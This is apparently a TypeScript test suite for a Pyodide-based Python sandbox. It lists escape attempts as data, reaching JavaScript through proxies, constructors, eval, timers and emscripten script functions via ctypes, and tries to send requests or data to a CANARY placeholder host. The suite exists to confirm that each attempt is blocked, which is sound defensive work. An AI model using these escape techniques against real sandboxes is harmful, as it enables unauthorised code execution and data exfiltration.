import { attack, prints, type Attack } from './attack.ts'

const script = (text: string) => `ctypes.CDLL(None).emscripten_run_script(b${JSON.stringify(text)})`
const noEval = /^pyodide\.ffi\.JsException: EvalError: Evaluating a string as JavaScript violates/

/** The function that tells the page what was printed: the one thing of JavaScript that our own Python needs. */
export const tell = ['import sys', 't = type(sys.stdout).tell.__globals__["tell"]'] as const

/** What Pyodide leaves among the modules leads to the worker's global scope. */
export const globalScope = ['import sys', 'g = sys.modules["pyodide_js._api"].config.jsglobals'] as const

/** Each is of the first fence; whoever brings one back meets the cage (`probes.ts`). */
const takenAway = [
  ['fetch', 'fetch("CANARY")'],
  ['XMLHttpRequest', 'XMLHttpRequest.new().open("GET", "CANARY", False)'],
  ['WebSocket', 'WebSocket.new("ws://127.0.0.1:PORT/")'],
  ['EventSource', 'EventSource.new("CANARY")'],
  ['WebTransport', 'WebTransport.new("https://127.0.0.1:PORT/")'],
  ['RTCPeerConnection', 'RTCPeerConnection.new()'],
  ['importScripts', 'importScripts("CANARY")'],
  ['Worker', 'Worker.new("CANARY")'],
  ['SharedWorker', 'SharedWorker.new("CANARY")'],
  ['BroadcastChannel', 'BroadcastChannel.new("x")'],
  ['navigator', 'navigator.sendBeacon("CANARY", "secret")'],
  ['navigator', 'navigator.serviceWorker.register("CANARY")'],
  ['navigator', 'navigator.storage.getDirectory()'],
  ['indexedDB', 'indexedDB.open("x")'],
  ['caches', 'caches.open("x")'],
  ['cookieStore', 'cookieStore.set("a", "b")'],
  ['localStorage', 'localStorage.setItem("a", "b")'],
  ['document', 'document.cookie'],
  ['document', 'document.createElement("iframe").src = "CANARY"'],
  ['document', 'document.createElement("a").click()'],
  ['top', 'top.location = "CANARY"'],
  ['parent', 'parent.postMessage("x", "*")'],
  ['open', 'open("CANARY")'],
] as const

/** JavaScript, and through it the browser. */
export const javascript: readonly Attack[] = [
  attack('import js', /^ModuleNotFoundError: No module named 'js'/, 'import js', 'js.fetch("CANARY")'),
  attack(
    'import pyodide_js',
    /^ModuleNotFoundError: No module named 'pyodide_js'/,
    'import pyodide_js',
    'pyodide_js.constructor.constructor("return fetch(\'CANARY\')")()',
  ),
  attack(
    'run_js',
    /^ModuleNotFoundError: No module named 'js'/,
    'from pyodide.code import run_js',
    'run_js("fetch(\'CANARY\')")',
  ),
  attack(
    'to_js and a constructor',
    noEval,
    'from _pyodide_core import to_js',
    'to_js([1]).constructor.constructor("return fetch(\'CANARY\')")()',
  ),
  attack(
    'a module of JavaScript of its own',
    noEval,
    'from pyodide.ffi import register_js_module, to_js',
    'register_js_module("mine", to_js({"a": 1}))',
    'import mine',
    'mine.constructor.constructor("return fetch(\'CANARY\')")()',
  ),
  attack('a fatal error of its own', 'crash', 'import _pyodide_core', '_pyodide_core.trigger_fatal_error()'),
  attack(
    'a proxy among all objects',
    prints('True True'),
    'import gc',
    'proxies = []',
    'for o in gc.get_objects():',
    '  if type(o) is dict: proxies += [v for v in o.values() if type(v).__name__ == "JsProxy"]',
    'refused = []',
    'for p in proxies:',
    '  try: p.constructor.constructor("return fetch(\'CANARY\')")()',
    '  except Exception as e: refused.append("EvalError" in str(e))',
    'print(len(refused) > 0, all(refused))',
  ),
  attack(
    'a proxy in the frames',
    noEval,
    'import sys',
    'f = sys._getframe()',
    'while f:',
    '  for v in [*f.f_globals.values(), *f.f_locals.values()]:',
    '    if type(v).__name__ == "JsProxy": v.constructor.constructor("return fetch(\'CANARY\')")()',
    '  f = f.f_back',
  ),
  attack(
    'constructors of functions that wait or yield',
    noEval,
    ...globalScope,
    'p = g.Object.getPrototypeOf(g.Blob.prototype.text)',
    'p.constructor("return import(\'CANARY\')")()',
  ),
  attack('eval found in the global scope', noEval, ...globalScope, 'getattr(g, "eval")("fetch(\'CANARY\')")'),
  ...takenAway.map(([name, use]) =>
    attack(`${use} in the global scope`, new RegExp(`^AttributeError: ${name}`), ...globalScope, `g.${use}`),
  ),
  attack(
    'a font',
    prints('error'),
    ...globalScope,
    'f = g.FontFace.new("x", "url(CANARY)")',
    'f.load()',
    'print(f.status)',
  ),
  attack(
    'a package to load',
    prints('True'),
    'import sys',
    'later = sys.modules["pyodide_js._api"].public_api.loadPackage("CANARYx.whl")',
    'print(not later.done())',
  ),
  attack(
    'a file to fetch when it is read',
    'crash',
    'import sys',
    'files = sys.modules["pyodide_js._api"].public_api.FS',
    'files.createLazyFile("/tmp", "lazy", "CANARY", True, False)',
    'open("/tmp/lazy").read()',
  ),
  attack(
    'a timer that spins when it is over',
    prints('set'),
    ...globalScope,
    'from pyodide.ffi import create_proxy',
    'def later():',
    '  while True: pass',
    'g.setTimeout(create_proxy(later), 0)',
    'print("set")',
  ),
  attack(
    'a timer that fetches when it is over',
    prints('set'),
    ...globalScope,
    'from pyodide.ffi import create_proxy',
    'def later():',
    '  import ctypes',
    `  ${script("import('CANARY')")}`,
    'g.setTimeout(create_proxy(later), 0)',
    'print("set")',
  ),
  attack(
    'a timer of text',
    prints('set'),
    ...globalScope,
    `g.setTimeout("import('CANARY')", 0)`,
    'print("set") # later',
  ),
  attack('to close the worker', prints('closed'), ...globalScope, 'g.close()', 'print("closed")'),

  // The door for texts of JavaScript: the policy evaluates none, and the interpreter ends.
  ...[
    ['fetch', "fetch('CANARY')"],
    ['import()', "import('CANARY')"],
    ['a worker', "new Worker(URL.createObjectURL(new Blob(['fetch(\\'CANARY\\')'])))"],
    ['a message', 'postMessage({type:"ran"})'],
    ['nothing', '1'],
  ].map(([what, text = '']) =>
    attack(`emscripten_run_script: ${what}`, 'crash', 'import ctypes', script(text)),
  ),
  attack(
    'emscripten_run_script_string',
    'crash',
    'import ctypes',
    'ctypes.CDLL(None).emscripten_run_script_string(b"fetch(\'CANARY\')")',
  ),
  attack(
    'emscripten_async_run_script',
    prints('0'),
    'import ctypes',
    'print(ctypes.CDLL(None).emscripten_async_run_script(b"fetch(\'CANARY\')", 0)) # later',
  ),
  attack(
    'emscripten_run_script by its pointer',
    'crash',
    'import ctypes',
    'p = ctypes.cast(ctypes.CDLL(None).emscripten_run_script, ctypes.c_void_p).value',
    'ctypes.CFUNCTYPE(None, ctypes.c_char_p)(p)(b"fetch(\'CANARY\')")',
  ),
  attack(
    'a wrong function pointer',
    'crash',
    'import ctypes',
    'for n in range(1, 3000): ctypes.CFUNCTYPE(ctypes.c_int)(n)()',
  ),
  // These answer at once, and what comes of them would come later: the canary says that nothing does.
  attack(
    'emscripten_async_wget',
    prints('0'),
    'import ctypes',
    'print(ctypes.CDLL(None).emscripten_async_wget(b"CANARY", b"/x", 0, 0)) # later',
  ),
  attack(
    'emscripten_async_load_script',
    prints('0'),
    'import ctypes',
    'print(ctypes.CDLL(None).emscripten_async_load_script(b"CANARY", 0, 0)) # later',
  ),
  attack(
    'emscripten_create_worker',
    'crash',
    'import ctypes',
    'print(ctypes.CDLL(None).emscripten_create_worker(b"CANARY")) # later',
  ),
  attack(
    'emscripten_websocket_new',
    prints('-1'),
    'import ctypes',
    'class A(ctypes.Structure): _fields_ = [("url", ctypes.c_char_p), ("p", ctypes.c_char_p), ("m", ctypes.c_int)]',
    'print(ctypes.CDLL(None).emscripten_websocket_new(ctypes.byref(A(b"ws://127.0.0.1:PORT/", None, 1)))) # later',
  ),
]
